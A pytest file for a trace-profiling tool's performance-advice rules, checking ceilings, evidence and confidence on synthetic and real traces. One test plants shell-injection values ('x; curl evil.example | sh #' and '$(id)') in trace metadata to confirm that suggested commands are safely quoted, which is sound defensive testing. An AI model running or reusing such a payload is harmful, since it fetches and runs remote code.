"""Each rule fires on a trace that is built for it, with its ceiling worked out by hand, and is silent elsewhere."""

from __future__ import annotations

import shlex
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from gemma_trace.advice.advise import advise
from gemma_trace.advice.findings import Advice, Confidence, Finding
from gemma_trace.advice.registry import RULES
from tests.advice.made import METADATA
from tests.conftest import SAMPLES, real_trace
from tests.trace_builder import TraceBuilder

MS = 1_000_000


def found(built: TraceBuilder, folder: Path) -> Advice:
    return advise(built.load(folder))


def one(built: TraceBuilder, folder: Path, rule: str) -> Finding:
    """The finding of a rule, which has just one."""
    (finding,) = [each for each in found(built, folder).findings if each.rule == rule]
    return finding


def ceiling_ms(finding: Finding) -> float:
    return finding.ceiling.mean_ns / MS


def request(wall_ms: int = 100) -> TraceBuilder:
    return TraceBuilder().range("request", 0, wall_ms * MS)


def waiting(built: TraceBuilder, start_ms: int, end_ms: int) -> TraceBuilder:
    return built.span("cuda_runtime", "cudaDeviceSynchronize", start_ms * MS, (end_ms - start_ms) * MS)


def on_device(*kernels: tuple[str, int], cat: str = "kernel", op: str = "") -> TraceBuilder:
    """A request whose device runs kernels of so many ms, one after another, from the 10th ms on; the host waits."""
    built, now = request(), 10
    for place, (name, length) in enumerate(kernels, start=1):
        if op:
            built.op(op, place * MS // 8, 9000)
        built.launch(place, place * MS // 8, 5000, name="cudaLaunchKernel")
        built.kernel(name, now * MS, length * MS, correlation=place, cat=cat)
        now += length
    return waiting(built, 9, now)


def test_unaligned_gemm(tmp_path: Path) -> None:
    names = ("cutlass_80_tensorop_s1688gemm_128x128_tn_align1", 30), ("ampere_bf16_s16816gemm_align8", 20)
    finding = one(on_device(*names), tmp_path, "unaligned_gemm")
    # Gone are its 30 ms and the wait for it to arrive; the other kernel comes no earlier than its launch, at 0.25 ms.
    assert ceiling_ms(finding) == 30 + 10 - 0.25
    assert "1 products on align1 or align2 kernels take 30.000 ms (60%)" in finding.evidence
    assert "unaligned_gemm" not in rules(on_device(("gemm_align16", 30), ("gemm_align4", 30)), tmp_path)


def rules(built: TraceBuilder, folder: Path) -> list[str]:
    return [finding.rule for finding in found(built, folder).findings]


def test_data_loader(tmp_path: Path) -> None:
    name = "enumerate(DataLoader)#_SingleProcessDataLoaderIter.__next__"
    built = TraceBuilder().range("ProfilerStep#1", 0, 100 * MS).range(name, 0, 30 * MS).op("aten::mm", 30 * MS, 60 * MS)
    finding = one(built, tmp_path, "data_loader")
    assert (ceiling_ms(finding), finding.confidence) == (30, Confidence.HIGH)
    assert "num_workers=2" in finding.change
    # More than half of the step: beside the other 20 ms the loader still takes its 80.
    built = TraceBuilder().range("ProfilerStep#1", 0, 100 * MS).range(name, 0, 80 * MS)
    assert ceiling_ms(one(built, tmp_path, "data_loader")) == 20
    waits = name.replace("SingleProcess", "MultiProcessing")
    built = TraceBuilder().range("ProfilerStep#1", 0, 100 * MS).range(waits, 0, 80 * MS)
    finding = one(built, tmp_path, "data_loader")
    assert (ceiling_ms(finding), "prefetch_factor" in finding.change) == (80, True)


def with_run(built: TraceBuilder, **run: str) -> TraceBuilder:
    config = METADATA.config | {name: run[name] for name in ("dtype", "image_backend", "device") if name in run}
    return built.metadata(replace(METADATA, run=replace(METADATA.run, **run), config=config))


def stages_of_text() -> TraceBuilder:
    built = request().range("image_load", 0, 20 * MS).range("preprocessing", 20 * MS, 50 * MS)
    built.range("chat_template", 20 * MS, 5 * MS).range("image_processing", 25 * MS, 30 * MS)
    return built.range("tokenization", 55 * MS, 10 * MS)


def test_image_processor_and_its_neighbours(tmp_path: Path) -> None:
    pil = found(with_run(stages_of_text(), image_backend="pil"), tmp_path)
    ceilings = {finding.rule: ceiling_ms(finding) for finding in pil.findings}
    assert ceilings == {"image_processor": 30, "image_load": 20, "prompt_processing": 15}
    assert [finding.rule for finding in pil.findings] == list(ceilings)  # the highest first
    assert pil.findings[0].check == "gemma-trace compare --set image_backend=pil,torchvision --set device=cpu"
    # Preprocessing's own 5 ms and its text are over 2% of the request, and no frames say what it does.
    assert [each.rule for each in pil.abstentions] == ["processor_per_request"]
    # torchvision on a CPU: there is nothing faster to be had.
    assert "image_processor" not in [f.rule for f in found(with_run(stages_of_text()), tmp_path).findings]


@pytest.mark.parametrize(
    ("frames", "is_pillow"),
    [
        (["owlv2/image_processing_owlv2.py(402): preprocess"], True),  # transformers 4
        (
            ["siglip/image_processing_siglip_fast.py(12): preprocess", "image_processing_utils_fast.py(7): __call__"],
            False,
        ),
        # transformers 5: the plain name is torchvision's.
        (["gemma3/image_processing_gemma3.py(78): preprocess", "image_processing_backends.py(234): resize"], False),
        (["gemma3/image_processing_pil_gemma3.py(70): preprocess", "image_processing_backends.py(500): resize"], True),
        (["image_processing_utils.py(382): preprocess"], False),
    ],
)
def test_frames_tell_which_image_processor_it_is(tmp_path: Path, frames: list[str], is_pillow: bool) -> None:
    built = request().range("image_processing", 0, 50 * MS)
    for place, frame in enumerate(frames):
        built.frame(frame, place * MS, (50 - 2 * place) * MS)
    assert ("image_processor" in rules(built, tmp_path)) is is_pillow


def test_images_are_processed_on_the_device_where_there_is_one(tmp_path: Path) -> None:
    built = stages_of_text().launch(1, 70 * MS).kernel("k", 71 * MS, 1 * MS, correlation=1)
    finding = one(with_run(built, device="cuda"), tmp_path, "image_processor")
    assert (ceiling_ms(finding), finding.confidence) == (30, Confidence.MEDIUM)
    assert "on the device" in finding.change


def test_processor_per_request(tmp_path: Path) -> None:
    built = stages_of_text()
    built.frame("transformers/processing_auto.py(285): from_pretrained", 66 * MS, 4 * MS)
    finding = one(built, tmp_path, "processor_per_request")
    assert (ceiling_ms(finding), finding.where) == (4, "preprocessing")


def products(dtype: str) -> TraceBuilder:
    built = request().span(**product("float", "float"))
    return with_run(built.op("aten::add", 80 * MS, 10 * MS), dtype=dtype)


def product(*types: str) -> dict[str, Any]:
    """A product of 64 ms, as the arguments of `span`."""
    return {"cat": "cpu_op", "name": "aten::mm", "start_ns": 0, "dur_ns": 64 * MS, "Input type": list(types)}


def test_low_precision(tmp_path: Path) -> None:
    finding = one(products("float32"), tmp_path, "low_precision")
    assert ceiling_ms(finding) == 64 * 15 / 16 + 10 / 2
    assert finding.confidence is Confidence.LOW
    assert finding.check == "gemma-trace compare --set dtype=float32,bfloat16 --set device=cpu"
    forged = products("float32")
    config = METADATA.config | {"model": "x; curl evil.example | sh #", "prompt": "$(id)"}
    forged.metadata(replace(METADATA, run=replace(METADATA.run, dtype="float32"), config=config))
    _, command = one(forged, tmp_path, "low_precision").check.split(": ")
    settings = [
        *("--set", "dtype=float32,bfloat16", "--set", "model=x; curl evil.example | sh #"),
        *("--set", "device=cpu", "--set", "prompt=$(id)"),
    ]
    assert shlex.split(command) == ["gemma-trace", "compare", *settings], "a trace puts nothing into a shell"
    assert "low_precision" not in rules(products("bfloat16"), tmp_path)
    for known, missing in (
        (False, "this CPU (A CPU) has no instructions for bfloat16"),
        (None, "the trace does not say whether"),
    ):
        environment = replace(METADATA.environment, cpu_bfloat16=known)
        run = replace(METADATA.run, dtype="float32")
        advice = found(products("float32").metadata(replace(METADATA, run=run, environment=environment)), tmp_path)
        assert "low_precision" not in [finding.rule for finding in advice.findings]
        assert [missing in each.missing for each in advice.abstentions if each.rule == "low_precision"] == [True]
    foreign = request().span(**product("float", "float"))
    assert "low_precision" not in rules(foreign, tmp_path)  # nothing says what its CPU can do
    assert "low_precision" not in rules(request().span(**product("c10::BFloat16", "c10::BFloat16")), tmp_path)


@pytest.mark.parametrize(
    ("device", "half"), [("NVIDIA A100-SXM4-80GB", "bfloat16"), ("Tesla V100-SXM2-32GB", "float16"), ("?", "bfloat16")]
)
def test_a_device_is_advised_the_half_type_that_it_knows(tmp_path: Path, device: str, half: str) -> None:
    built = request().span(**product("float", "float") | {"dur_ns": MS}).launch(1, 10_000, 5000)
    built.kernel("ampere_sgemm_128x64_tn", 1 * MS, 64 * MS, correlation=1)
    built.header["deviceProperties"] = [{"id": 0, "name": device}]
    finding = one(waiting(built, 2, 65), tmp_path, "low_precision")
    assert f'dtype="{half}"' in finding.change
    assert finding.confidence is Confidence.MEDIUM


def test_tf32_off(tmp_path: Path) -> None:
    finding = one(on_device(("ampere_sgemm_128x64_tn", 40), ("k", 10)), tmp_path, "tf32_off")
    assert ceiling_ms(finding) == 40 * 7 / 8
    assert "tf32_off" not in rules(on_device(("volta_sgemm_128x64_tn", 40), ("k", 10)), tmp_path)  # V100 has none


def test_pageable_copies(tmp_path: Path) -> None:
    built = request().launch(1, 5 * MS, 40 * MS, name="cudaMemcpyAsync")
    built.kernel("Memcpy HtoD (Pageable -> Device)", 15 * MS, 25 * MS, correlation=1, cat="gpu_memcpy")
    # The call of 40 ms is gone: 10 before the copy, 25 of waiting for it, 5 to return.
    assert ceiling_ms(one(built, tmp_path, "pageable_copies")) == 40
    pinned = request().launch(1, 5 * MS, 40 * MS, name="cudaMemcpyAsync")
    pinned.kernel("Memcpy HtoD (Pinned -> Device)", 15 * MS, 25 * MS, correlation=1, cat="gpu_memcpy")
    assert "pageable_copies" not in rules(pinned, tmp_path)


def test_allocator(tmp_path: Path) -> None:
    built = request().op("aten::empty", 9 * MS, 9 * MS).span("cuda_runtime", "cudaMalloc", 10 * MS, 7 * MS)
    built.span("cuda_runtime", "cudaFree", 30 * MS, 3 * MS)
    assert ceiling_ms(one(built, tmp_path, "allocator")) == 10


@pytest.mark.parametrize(("used", "said"), [(3, "; of 4.00 GB reserved at most 3.00 are in use at once"), (3.5, "")])
def test_allocator_says_what_is_reserved_in_vain(tmp_path: Path, used: float, said: str) -> None:
    built = request().span("cuda_runtime", "cudaMalloc", 10 * MS, 7 * MS)
    for place, (allocated, reserved) in enumerate(((1, 4), (used, 4), (0.5, 3))):
        args = {"Device Type": 1, "Device Id": 0, "Addr": 512, "Bytes": 64}
        totals = {"Total Allocated": int(allocated * 1e9), "Total Reserved": int(reserved * 1e9)}
        built.raw(ph="i", s="t", cat="cpu_instant_event", name="[memory]", pid=1, tid=100, ts=place, args=args | totals)
    finding = one(built, tmp_path, "allocator")
    assert finding.evidence == f"1 calls such as cudaMalloc and cudaFree take 7.000 ms of the host{said}"


def test_cold_start(tmp_path: Path) -> None:
    built = request()
    for place in range(5):
        built.launch(place + 1, (10 + place) * MS, 10_000).kernel(
            "k", (10 + place) * MS + 12_000, 5000, correlation=place + 1
        )
    built.launch(9, 20 * MS, 30 * MS).kernel("k", 50 * MS, 5000, correlation=9)
    finding = one(built, tmp_path, "cold_start")
    assert ceiling_ms(finding) == 30
    assert "the longest 30.000 ms in cudaLaunchKernel" in finding.evidence


def test_launch_bound(tmp_path: Path) -> None:
    built = request().range("prefill", 0, 80 * MS)
    for place in range(10):
        at = (5 + 7 * place) * MS
        built.op("aten::mm", at, 6 * MS).launch(place + 1, at + 5 * MS, 10_000)
        built.kernel("k", at + 5 * MS + 12_000, 500_000, correlation=place + 1)
    finding = one(waiting(built, 76, 79), tmp_path, "launch_bound")
    # Ten ops of 6 ms lie on the path until the last kernel; the wait behind it returns when it did.
    assert ceiling_ms(finding) == pytest.approx(60, rel=0.02)
    assert finding.where == "prefill"
    assert "launch_bound" not in rules(on_device(("k", 40), ("k", 30)), tmp_path)


def test_layout_copies_and_casts(tmp_path: Path) -> None:
    built = request().op("aten::contiguous", 10 * MS, 20 * MS).op("aten::clone", 11 * MS, 18 * MS)
    assert ceiling_ms(one(built, tmp_path, "layout_copies")) == 20
    built = request()
    for place in range(8):
        built.op("aten::_to_copy", place * 10 * MS, 2 * MS)
    assert ceiling_ms(one(built, tmp_path, "dtype_casts")) == 16
    fewer = request()
    for place in range(7):
        fewer.op("aten::_to_copy", place * 10 * MS, 2 * MS)
    assert "dtype_casts" not in rules(fewer, tmp_path)


def test_elementwise_fusion(tmp_path: Path) -> None:
    names = [("void at::native::vectorized_elementwise_kernel<4, at::native::AddFunctor>", 1)] * 60
    finding = one(on_device(*names), tmp_path, "elementwise_fusion")
    # The device is done at the 70th ms, for which the host waits from the 9th on.
    assert ceiling_ms(finding) == 70 - 9
    assert "elementwise_fusion" not in rules(on_device(*names[:49]), tmp_path)
    assert "elementwise_fusion" not in rules(on_device(*names, ("triton_poi_fused_add_0", 1)), tmp_path)


def test_communication(tmp_path: Path) -> None:
    finding = one(on_device(("ncclDevKernel_AllReduce_Sum_f32", 30), ("gemm", 40)), tmp_path, "communication")
    # Beside the product, whose launch is called at 0.25 ms, the collective costs nothing.
    assert ceiling_ms(finding) == 80 - 40.25
    assert finding.confidence is Confidence.MEDIUM


def test_host_sync(tmp_path: Path) -> None:
    built, at = request().range("prefill", 0, 90 * MS), 0
    for place in range(6):  # each launch of a kernel of 5 ms is waited for, and 5 ms of the host follow
        built.launch(place + 1, at, 10_000).kernel("k", at + 20_000, 5 * MS, correlation=place + 1)
        built.op("aten::item", at + 50_000, 5 * MS)
        built.span("cuda_runtime", "cudaStreamSynchronize", at + 60_000, 4_970_000)
        built.op("aten::work", at + 6 * MS, 5 * MS)
        at += 11 * MS
    finding = one(built, tmp_path, "host_sync")
    # Five of the six don't wait, each 4.97 ms; the last stays, and the device is behind by nothing then.
    assert ceiling_ms(finding) == pytest.approx(5 * 4.97, abs=0.01)
    assert finding.evidence.startswith("5 calls wait for the device, 5 of them to read a value")
    assert "host_sync" not in rules(on_device(("k", 40), ("k", 30)), tmp_path)


def test_kv_cache(tmp_path: Path) -> None:
    built = request().range("prefill", 0, 20 * MS).op("aten::cat", 5 * MS, 5 * MS).range("decode", 20 * MS, 70 * MS)
    built.op("aten::cat", 30 * MS, 12 * MS)
    assert ceiling_ms(one(built, tmp_path, "kv_cache")) == 12


def test_cpu_threads(tmp_path: Path) -> None:
    def of(threads: int, usable: int | None = None) -> TraceBuilder:
        environment = replace(METADATA.environment, host_cores=4, torch_threads=threads, usable_cores=usable)
        return request().op("aten::mm", 10 * MS, 80 * MS).metadata(replace(METADATA, environment=environment))

    finding = one(of(1), tmp_path, "cpu_threads")
    assert ceiling_ms(finding) == 60
    assert "OMP_NUM_THREADS=4" in finding.change
    assert "cpu_threads" not in rules(of(4), tmp_path)
    assert "cpu_threads" not in rules(of(1, usable=1), tmp_path), "a process that has one core alone"
    assert "1 of 2 cores" in one(of(1, usable=2), tmp_path, "cpu_threads").evidence


def test_every_rule_is_tested_and_says_where_it_is_from() -> None:
    text = "".join(path.read_text() for path in sorted(Path(__file__).parent.glob("test_*.py")))
    assert [rule.name for rule in RULES if f'"{rule.name}"' not in text] == []
    assert all(rule.source for rule in RULES)
    page = (Path(__file__).parents[2] / "analysis" / "docs" / "advice.md").read_text()
    lines = [f"| `{rule.name}` | {rule.looks_for} | {rule.leaves} |" for rule in RULES]
    assert [line for line in lines if line not in page] == []
    assert len({rule.name for rule in RULES}) == len(RULES) >= 30


EXPECTED = {
    "h100_owlv2_vlm_proxy": [
        "image_processor",
        "data_loader",
        "unfused_attention",
        "unaligned_gemm",
        "elementwise_fusion",
    ],
    "h100_bert_small": ["launch_bound"],
    "cpu_only": [],
    "mi300x_vllm_decode_graph": [],
    "multirank_rank0_no_flows": ["launch_bound"],
    "a100_event_sync_multi_stream": ["launch_bound", "allocator", "cold_start"],
}
"""What each corpus is advised. Looked up in the traces: bert's device is idle for 89% of the step, the multirank's for
55%; the event example allocates 3 times in its 20 ms; vLLM's model is compiled already."""


@pytest.mark.parametrize("name", EXPECTED)
def test_real_traces_are_advised_nothing_else(corpus: Path, name: str) -> None:
    advice = advise(real_trace(corpus / f"{name}.json.gz"))
    assert [finding.rule for finding in advice.findings] == EXPECTED[name]


def test_owlv2s_ceilings_are_what_its_kernels_take(corpus: Path) -> None:
    advice = advise(real_trace(corpus / "h100_owlv2_vlm_proxy.json.gz"))
    by_rule = {finding.rule: finding for finding in advice.findings}
    # The processing of images: the stage's time, on a host that nothing else waits for.
    assert by_rule["image_processor"].ceiling.mean_ns == 611_940_983
    # 5,493,281 + 611,940,983 + 1,610,742 of the loader beside a rest of 1,211,182,252 - 619,045,006.
    assert by_rule["data_loader"].ceiling.mean_ns == 1_211_182_252 - 619_045_006
    assert "the softmax takes 262.538 ms (48%) of the work in vision_tower" in by_rule["unfused_attention"].evidence
    # The align1 kernels' own 229.7 ms, with the gaps before them.
    assert 229.680 <= ceiling_ms(by_rule["unaligned_gemm"]) < 230.2
    assert all(0 <= finding.ceiling.mean_ns <= 1_211_182_252 for finding in advice.findings)


def test_our_own_captures_are_advised_what_they_lack() -> None:
    for folder, with_pillow in (("sample-tiny-cpu-pil", True), ("sample-tiny-cpu-torchvision", False)):
        (path,) = (SAMPLES / folder).glob("*.json.gz")
        advice = advise(real_trace(path))
        names = [finding.rule for finding in advice.findings]
        assert ("image_processor" in names) is with_pillow
        assert (names[0] == "image_processor") is with_pillow
        assert "low_precision" not in names  # they are from before it was recorded whether the CPU knows bfloat16
        assert "low_precision" in [each.rule for each in advice.abstentions]
